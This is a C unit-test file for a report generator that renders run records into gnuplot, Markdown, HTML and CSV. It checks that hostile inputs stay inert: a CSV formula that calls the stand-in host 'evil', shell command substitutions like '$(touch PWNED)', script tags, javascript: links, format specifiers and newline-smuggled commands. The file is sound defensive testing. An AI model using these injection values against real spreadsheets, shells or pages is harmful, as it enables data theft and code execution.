/* Reading records of strangers is safe: what they hold reaches gnuplot, Markdown, HTML and CSV as
 * text, and no file is made but the report's own. */
#include <ftw.h>
#include <sys/stat.h>

#include "core/progress.h"
#include "core/rng.h"
#include "reports/plot_private.h"
#include "reports/report.h"
#include "reports/test_stand_in.h"
#include "reports/test_reports.h"

static const char *const hostile[] = { "rater's score",
                                       "=HYPERLINK(\"http://evil/?\"&A1)",
                                       "@SUM(1+1)",
                                       "-2+3",
                                       "=",
                                       "`touch PWNED`",
                                       "$(touch PWNED)",
                                       "a|b",
                                       "</td><script>x</script>",
                                       "[x](javascript:y)",
                                       "\\\"'",
                                       "%s%n",
                                       "\"; system 'touch PWNED'; #",
                                       "q & a, \"hard\" | \xc3\xa9 {a}_b^c" };
enum { HOSTILE = sizeof hostile / sizeof *hostile };

static void hostile_texts_stay_texts(void **state)
{
    (void)state;
    for (int i = 0; i < HOSTILE; i++) {
        str gp = { 0 }, md = { 0 }, html = { 0 }, csv = { 0 };
        chart_quote(&gp, hostile[i]);
        markdown_escape(&md, hostile[i]);
        html_escape(&html, hostile[i]);
        csv_escape(&csv, hostile[i]);
        /* gnuplot's: one string, in which only a doubled quote is special */
        assert_true(gp.s[0] == '\'' && gp.s[gp.n - 1] == '\'');
        for (size_t k = 1; k + 1 < gp.n; k++)
            if (gp.s[k] == '\'') assert_true(gp.s[++k] == '\'' && k + 1 < gp.n);
        assert_null(strpbrk(html.s, "<>\"'"));
        for (const char *c = md.s; *c; c++) {
            if (*c == '\\')
                c++;
            else
                assert_null(strchr("`*_[]<>|&#!~", *c));
        }
        assert_null(strchr("=+-@", csv.s[0] == '"' ? csv.s[1] : csv.s[0]));
        str_free(&gp);
        str_free(&md);
        str_free(&html);
        str_free(&csv);
    }
}

static int files_seen;
static int see_file(const char *path, const struct stat *st, int kind, struct FTW *at)
{
    (void)path, (void)st, (void)at;
    files_seen += kind == FTW_F;
    return 0;
}
static int count_files(const char *dir)
{
    files_seen = 0;
    assert_int_equal(nftw(dir, see_file, 8, FTW_PHYS), 0);
    return files_seen;
}

/* Every text of a record attacked at once, through the real gnuplot: a page with its pictures, and
 * no file but the report's own. */
static void hostile_records_make_a_page_and_nothing_else(void **state)
{
    (void)state;
    if (system("command -v gnuplot >/dev/null 2>&1")) skip_because("gnuplot is not on this machine");
    char *dir = test_tmpdir(), *runs = path_join(dir, "it's; \"runs"), *out = path_join(dir, "$(touch PWNED) 'out"),
         *html = path_join(out, "index.html");
    report_counts c;
    str           page = { 0 };
    int           k    = 0;
    assert_ok(file_make_dirs(runs));
    for (int i = 0; i < HOSTILE; i++) {
        const char *name = hostile[i];
        json *r = eval_record(name, 8, 1, 20 + i, 1000 + i, name), *asked = test_record_part(r, field_record_asked),
             *metrics = test_record_part(test_record_part(r, field_record_result), field_result_metrics);
        json_set(metrics, name, json_take(metrics, "em"));
        test_record_set(test_record_part(asked, field_asked_adapter), field_adapter_sites, text(name));
        test_record_set(test_record_part(asked, field_asked_base), field_source_name, text(name));
        test_record_set(test_record_part(r, field_record_where), field_where_cpu, text(name));
        put(runs, &k, test_record_sign(r));
        json *b = bench_record(name, i % 2, 8, 0.1), *case_asked = test_record_part(b, field_record_asked);
        static const record_field texts[] = { field_bench_case_op, field_bench_case_shape, field_bench_case_site };
        for (int f = 0; f < 3; f++) test_record_set(case_asked, texts[f], text(name));
        test_record_set(test_record_part(b, field_record_where), field_where_cpu, text(name));
        put(runs, &k, test_record_sign(b));
    }
    assert_ok(report_write(runs, out, NULL, &c));
    assert_int_equal(c.plots, 2 * HOSTILE);
    /* page, Markdown, four tables, and two files a picture; beside them the records alone */
    assert_int_equal(count_files(out), 2 + 5 + 4 * HOSTILE);
    assert_int_equal(count_files(dir), k + 2 + 5 + 4 * HOSTILE);
    assert_false(file_exists("PWNED"));
    assert_ok(file_read(html, 32 << 20, &page));
    assert_null(strstr(page.s, "<script"));
    str_free(&page);

    /* What would end a line is refused where records are read. */
    char *bad = path_join(runs, "bad.json");
    json *r   = eval_record("lora\n!touch PWNED\n#", 8, 1, 1, 1, "squad");
    assert_ok(record_write(r, bad));
    assert_input_error(report_write(runs, out, NULL, &c),
                       "\"asked.adapter.method\": the text holds the control character U+000A");
    json_free(r);
    r             = eval_record("lora", 8, 1, 1, 1, "squad");
    json *metrics = test_record_part(test_record_part(r, field_record_result), field_result_metrics);
    json_set(metrics, "em'\nsystem 'touch PWNED'", json_take(metrics, "em"));
    assert_ok(record_write(r, bad));
    assert_input_error(report_write(runs, out, NULL, &c), "the name holds the control character U+000A");
    json_free(r);
    free(bad);
    free(html);
    free(out);
    free(runs);
    test_rmdir(dir);
}

/* Without gnuplot, or with nothing to draw, the page and its tables come all the same; what an
 * earlier report left is replaced. */
static void a_picture_that_cannot_be_drawn_costs_that_picture(void **state)
{
    (void)state;
    char *dir = test_tmpdir(), *runs = path_join(dir, "runs"), *out = path_join(dir, "out"),
         *html = path_join(out, "index.html"), *old = path_join(out, "plots/quality-base-old.svg"), *path;
    report_counts c;
    str           page = { 0 };
    int           k    = 0;
    assert_ok(file_make_dirs(runs));
    path = path_join(out, "plots");
    assert_ok(file_make_dirs(path));
    free(path);
    assert_ok(file_write_atomic(old, "x", 1));
    put(runs, &k, lora(1, 38));
    path = mem_strdup(getenv("PATH"));
    setenv("PATH", "none", 1);
    int rc = report_write(runs, out, NULL, &c);
    setenv("PATH", path, 1);
    assert_ok(rc);
    assert_int_equal(c.plots, 0);
    assert_ok(file_read(html, 1 << 20, &page));
    assert_non_null(strstr(page.s, "<p>No picture: gnuplot was not found"));
    assert_non_null(strstr(page.s, "38 (1)"));
    assert_false(file_exists(old));
    str_free(&page);
    free(path);
    free(old);
    free(html);
    free(out);
    free(runs);
    test_rmdir(dir);
}

/* A text of characters that mean something somewhere. */
static void hostile_text(rng *g, char out[40])
{
    static const char *const parts[] = { "'", "\"", "\\", "`",  "$(", ")", "<",        ">", "&", "|",   ";", "=",
                                         "+", "-",  "@",  "%s", "%n", "{", "}",        "[", "]", "../", "/", "#",
                                         "*", "_",  "~",  "!",  ",",  ":", "\xc3\xa9", "a", "B", "0",   " ", "-->" };
    const int                n       = 1 + (int)rng_below(g, 9);
    out[0]                           = 0;
    for (int i = 0; i < n; i++) {
        const char *part = parts[rng_below(g, sizeof parts / sizeof *parts)];
        snprintf(out + strlen(out), 40 - strlen(out), "%s", part);
    }
}

/* The cells of a CSV, RFC 4180: every row has as many as the heads. Returns the rows. */
static int64_t check_csv(const char *dir, const char *name)
{
    char   *path = path_join(dir, name);
    str     csv  = { 0 };
    int64_t rows = 0, cells = 0, want = 0;
    bool    quoted = false;
    assert_ok(file_read(path, 256u << 20, &csv));
    for (const char *c = csv.s; *c; c++) {
        if (*c == '"') quoted = !quoted;
        if (quoted || (*c != ',' && *c != '\n')) continue;
        cells++;
        if (*c == ',') continue;
        if (!rows) want = cells;
        assert_int_equal(cells, want);
        cells = 0, rows++;
    }
    assert_false(quoted);
    str_free(&csv);
    free(path);
    return rows - 1;
}

/* Seeded records of one cell each, as many as $TIEBREAK_ALL_ITEMS says: every text is hostile, and
 * every one is a row. */
static void many_hostile_records(void **state)
{
    (void)state;
    const char   *all  = getenv("TIEBREAK_ALL_ITEMS");
    const int64_t many = all && strtoll(all, NULL, 10) > 1 ? strtoll(all, NULL, 10) : test_part(600);
    char         *dir = test_tmpdir(), *runs = path_join(dir, "runs"), *out = path_join(dir, "out"),
         *bin = path_join(dir, "bin"), *program = path_join(bin, "gnuplot"), *path = mem_strdup(getenv("PATH"));
    report_counts c;
    rng           g    = rng_stream(1, "hostile records");
    str           with = { 0 };
    int           k    = 0;
    assert_ok(file_make_dirs(runs));
    assert_ok(file_make_dirs(bin));
    assert_ok(file_write_atomic(program, stand_in, strlen(stand_in)));
    assert_int_equal(chmod(program, 0700), 0);
    for (int64_t i = 0; i < many; i++) {
        char        text_of[6][40];
        json       *r = NULL, *asked, *adapter;
        static char task[5][64];
        for (int t = 0; t < 6; t++) hostile_text(&g, text_of[t]);
        if (i < 5) snprintf(task[i], sizeof task[i], "%d%s", (int)i, text_of[5]);
        r       = eval_record(text_of[0], 8, 1, (double)(i % 97), (double)(1000 + i), task[i % (i < 5 ? i + 1 : 5)]);
        asked   = test_record_part(r, field_record_asked);
        adapter = test_record_part(asked, field_asked_adapter);
        test_record_set(adapter, field_adapter_sites, text(text_of[1]));
        test_record_set(adapter, field_adapter_lr, number(1e-6 * (double)(i + 1)));
        test_record_set(test_record_part(r, field_record_where), field_where_cpu, text(text_of[2]));
        test_record_set(test_record_part(r, field_record_where), field_where_os, text(text_of[3]));
        put(runs, &k, test_record_sign(r));
    }
    str_printf(&with, "%s:%s", bin, path);
    setenv("PATH", with.s, 1);
    double start = clock_s();
    int    rc    = report_write(runs, out, NULL, &c);
    print_message("%lld records in %.1f s\n", (long long)many, clock_s() - start);
    setenv("PATH", path, 1);
    assert_ok(rc);
    assert_int_equal(c.plots, 5);
    assert_int_equal(check_csv(out, "runs.csv"), many);
    assert_int_equal(check_csv(out, "quality.csv"), many);
    assert_true(check_csv(out, "summary.csv") > 0);
    assert_true(check_csv(out, "machines.csv") > 0);
    assert_int_equal(count_files(out), 2 + 4 + 2 * 5);
    assert_int_equal(count_files(dir), many + 1 + 2 + 4 + 2 * 5);
    str_free(&with);
    free(path);
    free(program);
    free(bin);
    free(out);
    free(runs);
    test_rmdir(dir);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(hostile_texts_stay_texts),
                                        cmocka_unit_test(hostile_records_make_a_page_and_nothing_else),
                                        cmocka_unit_test(a_picture_that_cannot_be_drawn_costs_that_picture),
                                        cmocka_unit_test(many_hostile_records) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
